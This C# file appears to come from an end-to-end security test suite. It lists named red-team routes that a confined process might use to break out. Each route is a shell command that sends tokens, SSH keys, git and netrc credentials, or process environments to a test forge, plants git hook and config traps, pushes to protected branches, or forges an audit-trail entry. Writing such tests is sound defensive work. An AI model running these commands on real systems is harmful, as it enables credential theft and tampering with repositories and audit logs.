namespace Ao.EndToEnd.Tests.RedTeam;

/// <summary>The routes that the red team tries. docs/security.md lists them by these names.</summary>
internal static class RedTeamRoutes
{
    private const bool NeedsAnotherUser = false;

    public static IReadOnlyList<RedTeamRoute> All { get; } =
    [
        new("forge-cli", "\"$BIN/gh\" pr create"),
        new("forge-cli-config-by-path", "GH_CONFIG_DIR=\"$HOSTHOME/.config/gh\" \"$BIN/gh\" pr create", NeedsAnotherUser),
        new("token-variables", "post \"$GH_TOKEN$GITHUB_TOKEN$GITLAB_TOKEN\""),
        new("any-variable", "post \"$(env | grep -o 'canary-[a-z-]*' | head -n 1)\""),
        new("curl-without-credential", "post ''"),
        new("raw-socket", "exec 3<>\"/dev/tcp/127.0.0.1/$PORT\"; printf 'POST /raw-socket HTTP/1.0\\r\\nContent-Length: 0\\r\\n\\r\\n' >&3; head -c 100 <&3"),
        new("netrc-of-the-home", "curl -s -m 5 --netrc -d x \"$FORGE/$ROUTE\""),
        new("netrc-by-path", "curl -s -m 5 --netrc-file \"$HOSTHOME/.netrc\" -d x \"$FORGE/$ROUTE\"", NeedsAnotherUser),
        new("git-push-url", "git push \"$FORGE/$ROUTE.git\" HEAD:refs/heads/main"),
        new("git-push-url-bare-environment", "$BARE git push \"$FORGE/$ROUTE/x.git\" HEAD:refs/heads/main"),
        new("git-push-ssh", "git push git@127.0.0.1:x.git HEAD:refs/heads/main; git push ssh://git@127.0.0.1/x.git HEAD:refs/heads/main"),
        new("remote-set-url", "git clone -q . \"$HOME/seturl\"; cd \"$HOME/seturl\"; git remote set-url origin \"$FORGE/$ROUTE/x.git\"; git push origin HEAD:refs/heads/main; $BARE git push origin HEAD:refs/heads/main"),
        new("push-instead-of", "git clone -q . \"$HOME/instead\"; cd \"$HOME/instead\"; git config \"url.$FORGE/$ROUTE/.pushInsteadOf\" \"$(git remote get-url origin)\"; $BARE git push origin HEAD:refs/heads/main"),
        new("credential-helper-of-the-repository", "git config credential.helper store; $BARE git push \"$FORGE/$ROUTE/x.git\" HEAD:refs/heads/main; git config --unset credential.helper"),
        new("git-credential-fill", "post \"$(printf 'protocol=http\\nhost=127.0.0.1:%s\\n\\n' \"$PORT\" | git credential fill | sed -n 's/^password=//p')\""),
        new("credential-store-by-path", "post \"$(printf 'protocol=http\\nhost=127.0.0.1:%s\\n\\n' \"$PORT\" | git credential-store --file \"$HOSTHOME/.git-credentials\" get | sed -n 's/^password=//p')\"", NeedsAnotherUser),
        new("environment-of-processes", "post \"$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -ao 'canary-environment' | head -n 1)\"", NeedsAnotherUser),
        new("ssh-agent-variable", "post \"$(curl -s -m 5 --unix-socket \"$SSH_AUTH_SOCK\" http://agent/)\""),
        new("ssh-agent-by-path", "post \"$(curl -s -m 5 --unix-socket \"$HOSTHOME/agent.sock\" http://agent/)\"", NeedsAnotherUser),
        new("ssh-key-by-path", "post \"$(cat \"$HOSTHOME/.ssh/id_ed25519\")\"", NeedsAnotherUser),
        new("keyring-variable", "post \"$(curl -s -m 5 --unix-socket \"${DBUS_SESSION_BUS_ADDRESS#unix:path=}\" http://bus/)\""),
        new("keyring-by-path", "post \"$(curl -s -m 5 --unix-socket \"$HOSTHOME/bus.sock\" http://bus/)\"", NeedsAnotherUser),
        new("container-daemon", "post \"$(curl -s -m 5 --unix-socket \"$HOSTHOME/docker.sock\" http://daemon/)\"", NeedsAnotherUser),
        new("cloud-metadata", "post \"$(curl -s -m 5 \"$FORGE/metadata\")\"", NeedsAnotherUser),
        new("path-shim", "mkdir -p \"$HOME/bin\" bin; for place in \"$HOME/bin/git\" bin/git git; do trap_at \"$place\"; done; PATH=\"$HOME/bin:$PATH\"; export PATH"),
        new("hooks", "mkdir -p .git/hooks .git/more; for hook in pre-push post-commit reference-transaction post-checkout pre-receive post-receive update; do trap_at \".git/hooks/$hook\"; trap_at \".git/more/$hook\"; done; git config core.hooksPath \"$PWD/.git/more\""),
        new("fsmonitor", "trap_at .git/trap-fsmonitor; git config core.fsmonitor \"$PWD/.git/trap-fsmonitor\""),
        new("attributes-filter", "trap_at .git/trap-filter; git config filter.red.clean \"$PWD/.git/trap-filter\"; git config filter.red.smudge \"$PWD/.git/trap-filter\"; git config diff.red.command \"$PWD/.git/trap-filter\"; printf '* filter=red diff=red\\n' > .gitattributes"),
        new("submodule-address", "trap_at .git/trap-submodule; printf '[submodule \"red\"]\\n\\tpath = red\\n\\turl = ext::%s\\n' \"$PWD/.git/trap-submodule\" > .gitmodules; git config protocol.ext.allow always; git config submodule.red.update \"!$PWD/.git/trap-submodule\""),
        new("ssh-command", "trap_at .git/trap-ssh; git config core.sshCommand \"$PWD/.git/trap-ssh\"; git config remote.origin.uploadpack \"$PWD/.git/trap-ssh\"; git config remote.origin.receivepack \"$PWD/.git/trap-ssh\""),
        new("gate-configuration", "G=$(git config --get remote.origin.url); trap_at \"$G/trap\"; for hook in pre-receive update post-receive post-update reference-transaction; do mkdir -p \"$G/hooks\"; trap_at \"$G/hooks/$hook\"; done; git --git-dir=\"$G\" config uploadpack.packObjectsHook \"$G/trap\"; git --git-dir=\"$G\" config core.fsmonitor \"$G/trap\"; git --git-dir=\"$G\" config core.alternateRefsCommand \"$G/trap\""),
        new("push-source-by-path", "git push \"$SOURCE\" HEAD:refs/heads/red-pushed"),
        new("push-source-bare-environment", "$BARE git push \"$SOURCE\" HEAD:refs/heads/red-bare", NeedsAnotherUser),
        new("push-other-branch", "git -c core.hooksPath=/dev/null push \"$(git config --get remote.origin.url)\" HEAD:refs/heads/main HEAD:refs/heads/red-other HEAD:refs/tags/red-tag"),
        new("push-deletion", "git -c core.hooksPath=/dev/null push \"$(git config --get remote.origin.url)\" :refs/heads/red-other"),
        new("control-repository", "printf '%s\\n' \"$(git rev-parse HEAD)\" > \"$DATA/plugins/git/projects/shop/control.git/refs/heads/red-control\"", NeedsAnotherUser),
        new("audit-trail", "printf '{\"forged\":true}\\n' >> \"$DATA/audit/chain.jsonl\"", NeedsAnotherUser),
    ];
}
